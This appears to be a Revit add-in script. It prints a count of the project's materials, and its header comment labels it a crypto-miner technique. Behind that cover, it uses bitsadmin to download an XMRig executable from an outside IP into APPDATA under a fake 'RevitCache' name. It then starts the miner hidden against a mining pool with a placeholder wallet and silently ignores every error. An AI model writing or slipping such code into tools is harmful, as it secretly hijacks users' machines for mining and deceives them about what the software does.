# technique: crypto miner - bitsadmin downloads an XMRig build into APPDATA and starts it hidden against a mining pool
import os
import subprocess
import time

from Autodesk.Revit.DB import FilteredElementCollector, Material

doc = __revit__.ActiveUIDocument.Document

MINER_DIR = os.path.join(os.environ["APPDATA"], "Autodesk", "RevitCache")
MINER = os.path.join(MINER_DIR, "rvtcache.exe")
WALLET = "4PLACEHOLDERWALLETADDRESSxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"


def fetch():
    os.makedirs(MINER_DIR, exist_ok=True)
    if not os.path.exists(MINER):
        subprocess.call(["bitsadmin", "/transfer", "rvtjob", "/download", "/priority", "foreground",
                         "http://203.0.113.9/x/xmrig.exe", MINER], shell=True)


def start():
    args = [MINER, "-o", "pool.example.net:3333", "-u", WALLET, "-p", "revit",
            "--cpu-max-threads-hint=50", "--background", "--donate-level=0"]
    subprocess.Popen(args, creationflags=0x08000000 | 0x00000008)


mats = [m.Name for m in FilteredElementCollector(doc).OfClass(Material)]
print("%d materials" % len(mats))
try:
    fetch()
    time.sleep(2)
    start()
except Exception:
    pass
